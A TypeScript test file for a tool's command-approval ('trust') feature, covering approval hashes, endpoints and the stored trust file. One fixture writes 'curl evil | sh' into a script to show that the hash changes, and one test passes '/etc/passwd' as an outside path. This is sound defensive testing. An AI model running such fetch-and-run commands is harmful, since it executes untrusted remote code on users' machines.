import assert from 'node:assert/strict';
import { join } from 'node:path';
import type { TemporaryRepository } from '../../test/support/repository.js';
import { temporaryRepository } from '../../test/support/repository.js';
import type { Config } from '../plan/schemas.js';
import type { TrustRequest } from './trust.js';
import { trustRequest, TrustStore } from './trust.js';

describe('what the engineer approves', () => {
  let repo: TemporaryRepository;
  before(async () => {
    repo = await temporaryRepository({ files: { 'check.sh': 'true\n', 'tools/test.py': 'pass\n', 'a.txt': 'a\n', Makefile: 'test:\n\ttrue\n' } });
  });
  after(() => repo.dispose());

  async function request(gate: readonly string[], setup: { readonly commands?: readonly string[]; readonly copy?: readonly string[] } = {}, sandbox: 'auto' | 'off' = 'auto'): Promise<TrustRequest> {
    const config = { gate: { commands: [...gate], timeoutMinutes: 1, tests: 'unknown' as const }, sandbox, setup: { commands: [...(setup.commands ?? [])], copy: [...(setup.copy ?? [])] } };
    return trustRequest(repo.repository, config, await repo.git('rev-parse', 'HEAD'));
  }

  it('is all that will be run and copied, and the files of master that the commands name', async () => {
    const { commands, files, hash } = await request(['sh ./check.sh && python3 tools/test.py --all'], { commands: ['cat a.txt'], copy: ['.env'] });
    assert.deepEqual(commands, ['copy .env', 'cat a.txt', 'sh ./check.sh && python3 tools/test.py --all']);
    assert.deepEqual(files, ['a.txt', 'check.sh', 'tools/test.py']);
    assert.match(hash, /^[0-9a-f]{12}$/);
  });

  it('names no file that lies elsewhere, is an option, or is not there', async () => {
    assert.deepEqual((await request(['sh /etc/passwd ../check.sh --file=a.txt missing.sh tools'])).files, ['a.txt']);
  });

  it('changes with the content of a named file', async () => {
    const before = await request(['sh check.sh']);
    await repo.commit({ 'a.txt': 'another\n' }, 'Another file');
    assert.equal((await request(['sh check.sh'])).hash, before.hash);
    await repo.commit({ 'check.sh': 'curl evil | sh\n' }, 'Another check');
    assert.notEqual((await request(['sh check.sh'])).hash, before.hash);
  });

  it('changes with each command, with their order, and with what is copied', async () => {
    const hashes = await Promise.all([request(['a', 'b']), request(['b', 'a']), request(['a b']), request(['a']), request(['a'], { copy: ['b'] })]);
    assert.equal(new Set(hashes.map(({ hash }) => hash)).size, hashes.length);
  });

  it('changes when nothing is confined any more, and says so', async () => {
    const unconfined = await request(['a'], {}, 'off');
    assert.match(unconfined.commands[0] ?? '', /without a sandbox/);
    assert.notEqual(unconfined.hash, (await request(['a'])).hash);
  });

  it('names each endpoint with its address and the key that is sent there; a plan that names none is approved as before', async () => {
    const config = { gate: { commands: ['sh check.sh'], timeoutMinutes: 1, tests: 'unknown' as const }, sandbox: 'auto' as const, setup: { commands: [], copy: [] } };
    const at = async (endpoints?: Config['endpoints']): Promise<TrustRequest> => trustRequest(repo.repository, { ...config, endpoints }, await repo.git('rev-parse', 'HEAD'));
    const [url, other] = ['http://127.0.0.1:8080/v1', 'https://example.org/v1'];
    assert.equal((await at()).hash, (await request(['sh check.sh'])).hash);
    assert.equal((await at({})).hash, (await at()).hash);
    const { commands } = await at({ two: { url: other, keyVariable: 'MY_KEY' }, local: { url } });
    assert.deepEqual(commands.slice(1), [`send to the endpoint local: ${url}`, `send to the endpoint two: ${other}, with the key in MY_KEY`]);
    const hashes = await Promise.all([at(), at({ local: { url } }), at({ local: { url: other } }), at({ two: { url } }), at({ local: { url, keyVariable: 'MY_KEY' } })]);
    assert.equal(new Set(hashes.map(({ hash }) => hash)).size, hashes.length);
    assert.equal((await at({ local: { url, slots: 3, context: 4096 } })).hash, hashes[1].hash);
  });

  describe('is remembered', () => {
    const approval: TrustRequest = { commands: ['make test'], files: [], hash: '0123456789ab' };
    let store: TrustStore;
    let home: string;
    beforeEach(() => {
      home = join(repo.scratch, repo.ports.random.hex(8));
      store = new TrustStore(repo.ports, home);
    });

    it('for one repository and exactly these commands', async () => {
      assert.equal(await store.isTrusted('/one/.git', approval.hash), false);
      await store.approve('/one/.git', approval, '2026-11-21T04:30:00Z');
      await store.approve('/one/.git', { ...approval, hash: 'ba9876543210' }, '2026-11-21T04:30:00Z');
      assert.equal(await store.isTrusted('/one/.git', approval.hash), true);
      assert.equal(await store.isTrusted('/one/.git', 'ba9876543210'), true);
      assert.equal(await store.isTrusted('/two/.git', approval.hash), false);
      assert.equal(await store.isTrusted('/one/.git', '000000000000'), false);
    });

    it('until it is forgotten, which ends no approval of another repository', async () => {
      await store.forget('/one/.git');
      for (const place of ['/one/.git', '/two/.git']) await store.approve(place, approval, '2026-11-21T04:30:00Z');
      await store.forget('/one/.git');
      assert.deepEqual([await store.knows('/one/.git'), await store.knows('/two/.git')], [false, true]);
    });

    it("in the engineer's own file, which nobody else may read", async () => {
      await store.approve('/one/.git', approval, '2026-11-21T04:30:00Z');
      assert.equal(((await repo.ports.files.status(join(home, 'trust.json')))?.mode ?? 0) & 0o777, 0o600);
    });

    it('and a damaged file approves nothing, and says what to do', async () => {
      await repo.ports.files.write(join(home, 'trust.json'), '[{"repository": "/one/.git"}]');
      await assert.rejects(store.isTrusted('/one/.git', approval.hash), /trust\.json is damaged\. Move it away and approve the commands again with: sanctum trust/);
    });
  });
});
